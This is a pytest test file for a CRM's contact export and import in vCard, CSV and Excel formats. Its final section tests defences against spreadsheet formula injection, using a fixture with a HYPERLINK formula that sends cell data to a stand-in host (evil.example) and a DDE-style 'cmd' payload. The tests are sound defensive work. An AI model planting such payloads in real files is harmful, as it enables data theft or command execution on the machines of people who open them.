"""`crm export contacts` as vCard 4.0 and 3.0, CSV and Excel, read back by our own importer.

The whole sample office goes out and comes back into an empty database field by field (Chinese
names, lunar birthdays in a leap month, status, owner…), and into its own database without
creating anything. Then the import flags that go with it: `--rejected` and `--map`.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import vobject
from hypothesis import given, settings
from hypothesis import strategies as st

RunCrm = Callable[..., subprocess.CompletedProcess[str]]

# Every key of a contact that an export carries; `successor_of` (a link between two contacts)
# is not a field the importer takes, so it is not compared.
COMPARED = (
    "id",
    "family_name",
    "given_name",
    "name_zh",
    "pinyin",
    "honorific",
    "position",
    "position_zh",
    "organisation",
    "emails",
    "phones",
    "wechat",
    "birthday",
    "birthday_calendar",
    "birthday_leap_month",
    "language",
    "tags",
    "owner",
    "status",
    "archived",
    "notes",
)


@pytest.fixture
def home(tmp_path: Path) -> Path:
    return tmp_path / "home"


@pytest.fixture
def empty(tmp_path: Path) -> Iterator[Any]:
    from crm.services.bundle import Services

    bundle = Services.open(str(tmp_path / "empty.sqlite3"))
    yield bundle
    bundle.db.dispose()


def everyone(services: Any) -> dict[str, dict[str, Any]]:
    people = services.contacts.as_dicts(services.contacts.search("", include_archived=True))
    return {p["id"]: {k: p[k] for k in COMPARED} for p in people}


def export(run_crm: RunCrm, database: str, home: Path, out: Path, *options: str) -> None:
    result = run_crm(
        "export", "contacts", "--out", str(out), *options, database=database, home=home
    )
    assert result.returncode == 0, result.stderr
    assert str(out) in result.stdout


def assert_same(before: dict[str, dict[str, Any]], after: dict[str, dict[str, Any]]) -> None:
    assert sorted(after) == sorted(before)
    for contact_id, contact in before.items():
        for key in COMPARED:
            assert after[contact_id][key] == contact[key], (contact_id, key)


@pytest.mark.parametrize("version", ["4.0", "3.0"])
def test_vcards_of_the_sample_office_come_back_losslessly(
    demo_services: Any,
    empty: Any,
    home: Path,
    tmp_path: Path,
    run_crm: RunCrm,
    version: str,
) -> None:
    out = tmp_path / "office.vcf"
    export(run_crm, demo_services.db.url, home, out, "--vcard-version", version)
    data = out.read_bytes()
    assert b"\n" not in data.replace(b"\r\n", b"")  # CRLF only
    assert all(len(line) <= 75 for line in data.split(b"\r\n"))
    text = data.decode("utf-8")
    cards = list(vobject.readComponents(text))
    before = everyone(demo_services)
    assert len(cards) == len(before)
    assert {c.version.value for c in cards} == {version}

    report, _changes = empty.importer.import_file(out)
    assert report.errors == []
    assert report.created == len(before)
    assert_same(before, everyone(empty))
    # Chinese names, a lunar birthday in a leap month, someone who moved on: all of them there.
    assert any(c["name_zh"] for c in before.values())
    assert any(c["birthday_leap_month"] for c in before.values())
    assert {c["status"] for c in before.values()} >= {"active", "moved_on", "deceased"}

    again, _changes = demo_services.importer.import_file(out)
    assert (again.created, again.updated, again.errors) == (0, 0, [])
    assert again.skipped == len(before)


def test_a_lunar_birthday_is_no_bday(demo_services: Any, tmp_path: Path) -> None:
    from crm.services.exchange.vcard_writer import write_vcards

    contacts = demo_services.contacts.as_dicts(demo_services.contacts.search(""))
    lunar = [c for c in contacts if c["birthday_calendar"] == "lunar"]
    gregorian = [c for c in contacts if c["birthday"] and c["birthday_calendar"] == "gregorian"]
    out = tmp_path / "lunar.vcf"
    assert write_vcards(out, lunar[:1] + gregorian[:1], version="3.0") == 2
    first, second = vobject.readComponents(out.read_text(encoding="utf-8"))
    assert "bday" not in first.contents
    assert first.contents["x-liaison-birthday"][0].value == lunar[0]["birthday"]
    assert first.contents["x-liaison-birthday-calendar"][0].value == "lunar"
    assert second.contents["bday"][0].value == gregorian[0]["birthday"]


def test_year_less_birthdays_as_address_books_write_them(tmp_path: Path) -> None:
    from crm.services.exchange.vcard_writer import vcard_text

    contact = {
        "id": "3bbc4eec-00bc-46b3-8d6f-8956d0a7d37d",
        "family_name": "",
        "given_name": "",
        "name_zh": "王芳",
        "birthday": "--07-19",
        "birthday_calendar": "gregorian",
        "notes": "多行\n备注; a, b",
    }
    assert "\r\nBDAY:--0719\r\n" in vcard_text(contact)
    assert "\r\nBDAY:--07-19\r\n" in vcard_text(contact, version="3.0")
    assert "\r\nFN:Wang Fang\r\n" in vcard_text(contact)
    assert "\r\nNOTE:多行\\n备注\\; a\\, b\r\n" in vcard_text(contact)


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_sheets_of_the_sample_office_come_back_losslessly(
    demo_services: Any,
    empty: Any,
    home: Path,
    tmp_path: Path,
    run_crm: RunCrm,
    suffix: str,
) -> None:
    out = tmp_path / f"office.{suffix}"
    export(run_crm, demo_services.db.url, home, out)
    report, _changes = empty.importer.import_file(out)
    assert report.errors == []
    assert_same(everyone(demo_services), everyone(empty))


def test_vcards_are_for_contacts_only(
    demo_services: Any, home: Path, tmp_path: Path, run_crm: RunCrm
) -> None:
    out = tmp_path / "partnerships.vcf"
    result = run_crm(
        "export", "partnerships", "--out", str(out), database=demo_services.db.url, home=home
    )
    assert result.returncode == 1
    assert "Only contacts are exported as vCards" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert not out.exists()


BAD_SHEET = (
    "family_name,given_name,emails,birthday\r\n"
    "Hansen,Mette,mette@example.com,1980-04-15\r\n"
    "Berg,Ole,ole@example.com,1980-02-31\r\n"
)


@pytest.mark.parametrize("dry_run", [False, True])
def test_rejected_rows_are_written_to_fix(
    tmp_path: Path, home: Path, run_crm: RunCrm, dry_run: bool
) -> None:
    sheet = tmp_path / "people.csv"
    sheet.write_text(BAD_SHEET, encoding="utf-8")
    rejected = tmp_path / "rejected.csv"
    database = tmp_path / "db.sqlite3"
    options = ["--dry-run"] if dry_run else []
    args = ("import", str(sheet), "--rejected", str(rejected), *options)
    result = run_crm(*args, database=database, home=home)
    assert result.returncode == 1
    assert f"1 entries that could not be imported were written to “{rejected}”" in result.stdout
    lines = rejected.read_text(encoding="utf-8-sig").splitlines()
    assert lines[0].startswith("family_name,given_name,emails,birthday,")
    assert lines[1].startswith("Berg,Ole,ole@example.com,1980-02-31,")

    rejected.unlink()
    result = run_crm(*args, "--json", database=database, home=home)
    assert json.loads(result.stdout)["rejected_file"] == str(rejected)
    assert rejected.exists()


def test_nothing_rejected_writes_nothing(tmp_path: Path, home: Path, run_crm: RunCrm) -> None:
    sheet = tmp_path / "people.csv"
    sheet.write_text(BAD_SHEET.rsplit("Berg", 1)[0], encoding="utf-8")
    rejected = tmp_path / "rejected.csv"
    result = run_crm(
        "import", str(sheet), "--rejected", str(rejected), database=tmp_path / "db", home=home
    )
    assert result.returncode == 0, result.stderr
    assert "was not written" in result.stdout
    assert not rejected.exists()


def test_map_names_the_field_of_a_header(tmp_path: Path, home: Path, run_crm: RunCrm) -> None:
    sheet = tmp_path / "people.csv"
    sheet.write_text("Spalte A,Spalte B,Hobby\r\nHansen,Mette,Segeln\r\n", encoding="utf-8")
    database = tmp_path / "db.sqlite3"
    maps = ("--map", "Spalte A=family_name", "--map", "Spalte B = given_name", "--map", "Hobby=")
    result = run_crm("import", str(sheet), *maps, database=database, home=home)
    assert result.returncode == 0, result.stderr
    listing = run_crm("contacts", "--json", database=database, home=home)
    [contact] = json.loads(listing.stdout)
    assert (contact["family_name"], contact["given_name"]) == ("Hansen", "Mette")
    assert "Segeln" not in contact["notes"]


@pytest.mark.parametrize("option", ["family_name", "=family_name", "Spalte A=nonsense"])
def test_a_malformed_map_is_wrong_usage(
    tmp_path: Path, home: Path, run_crm: RunCrm, option: str
) -> None:
    sheet = tmp_path / "people.csv"
    sheet.write_text("Spalte A\r\nHansen\r\n", encoding="utf-8")
    result = run_crm("import", str(sheet), "--map", option, database=tmp_path / "db", home=home)
    assert result.returncode == 2
    assert "--map" in result.stderr


# Formulas: a spreadsheet shows them, never runs them ----------------------------------------
HOSTILE = {
    "family_name": '=HYPERLINK("http://evil.example/?"&A1,"Wang")',
    "given_name": "+Fang",
    "position": "-cmd|' /C calc'!A0",
    "notes": "@SUM(1)\nand a second line",
    "tags": ["=1+1", "VIP"],
    "phones": ["+44 20 7946 0000", "+86 139 5510 4471"],
    "wechat": "'=already quoted",
}


@pytest.fixture
def hostile(empty: Any) -> dict[str, Any]:
    """A contact whose fields start like formulas, as an imported address book may hold."""
    from crm.domain.contacts import ContactDraft

    draft = ContactDraft(**HOSTILE, emails=["wang.fang@example.com"], birthday="--04-15")
    contact_id, _changes = empty.contacts.create(draft)
    [contact] = empty.contacts.as_dicts([contact_id])
    return contact


def write_contacts(path: Path, contact: dict[str, Any]) -> None:
    from crm.services.exchange.writers import write_listing

    write_listing(path, path.suffix[1:], [contact], columns=list(contact))


def test_a_csv_export_quotes_what_a_spreadsheet_would_run(
    hostile: dict[str, Any], tmp_path: Path
) -> None:
    import csv

    out = tmp_path / "contacts.csv"
    write_contacts(out, hostile)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        header, row = list(csv.reader(handle))
    cell = dict(zip(header, row, strict=True))
    assert cell["family_name"] == "'" + HOSTILE["family_name"]
    assert cell["given_name"] == "'+Fang"
    assert cell["position"] == "'-cmd|' /C calc'!A0"
    assert cell["notes"] == "'@SUM(1)\nand a second line"
    assert cell["tags"] == "'=1+1;VIP"
    assert cell["wechat"] == "''=already quoted"  # one quote more, for the import to take off
    # Numbers, phone numbers and a birthday without a year can run nothing: left as they are.
    assert cell["phones"] == "+44 20 7946 0000;+86 139 5510 4471"
    assert cell["birthday"] == "--04-15"


def test_an_excel_export_holds_text_cells_excel_will_not_run(
    hostile: dict[str, Any], tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "contacts.xlsx"
    write_contacts(out, hostile)
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    cells = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    for name in ("family_name", "given_name", "position", "notes", "wechat"):
        assert cells[name].value == HOSTILE[name], name  # nothing added: a string cell
        assert cells[name].data_type == "s", name
        assert cells[name].quotePrefix, name  # and stays text when edited in Excel
    assert (cells["tags"].value, cells["tags"].data_type) == ("=1+1;VIP", "s")
    phones = "+44 20 7946 0000;+86 139 5510 4471"
    assert (cells["phones"].value, cells["phones"].data_type) == (phones, "s")


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_a_neutralised_export_comes_back_as_it_was(
    hostile: dict[str, Any], tmp_path: Path, suffix: str
) -> None:
    from crm.services.bundle import Services

    out = tmp_path / f"contacts.{suffix}"
    write_contacts(out, hostile)
    again = Services.open(str(tmp_path / "again.sqlite3"))
    try:
        report, _changes = again.importer.import_file(out)
        assert (report.created, report.errors) == (1, [])
        [back] = again.contacts.as_dicts(report.contact_ids)
    finally:
        again.db.dispose()
    for key, value in HOSTILE.items():
        assert back[key] == value, key


def test_an_excel_export_leaves_out_what_xml_cannot_hold(empty: Any, tmp_path: Path) -> None:
    """A bell in a note (typed, or imported before imports left such characters out) made
    openpyxl refuse the whole export."""
    from openpyxl import load_workbook

    from crm.domain.contacts import ContactDraft

    contact_id, _changes = empty.contacts.create(
        ContactDraft(family_name="Wang", notes="ring\x07 twice")
    )
    out = tmp_path / "contacts.xlsx"
    write_contacts(out, empty.contacts.as_dicts([contact_id])[0])
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    assert sheet[2][header.index("notes")].value == "ring twice"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+A1", "'+A1"),
        ("-HYPERLINK(1)", "'-HYPERLINK(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("''@x", "'''@x"),
        ("+44 20 7946 0000", "+44 20 7946 0000"),
        ("+1 (555) 010-0000", "+1 (555) 010-0000"),
        ("-5", "-5"),
        ("-1.5+2", "-1.5+2"),
        ("--04-15", "--04-15"),
        ("'quoted", "'quoted"),
        ("Wang = Fang", "Wang = Fang"),
        ("", ""),
    ],
)
def test_which_csv_cells_get_a_quote(value: str, written: str) -> None:
    from crm.services.exchange.formulas import csv_cell, unquoted

    assert csv_cell(value) == written
    assert unquoted(written) == value


@settings(max_examples=500, derandomize=True, database=None, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r 0123456789()aA|!"), max_size=8) | st.text())
def test_a_csv_cell_comes_back_as_it_was_and_never_as_a_formula(value: str) -> None:
    from crm.services.exchange.formulas import TRIGGERS, csv_cell, unquoted

    cell = csv_cell(value)
    assert unquoted(cell) == value
    if cell.startswith(TRIGGERS):  # then only a number, a phone number or a date
        assert set(cell) <= set("0123456789 ()+-.,;/\t\n\r\x0b\x0c\x1c\x1d\x1e\x1f\x85\xa0")
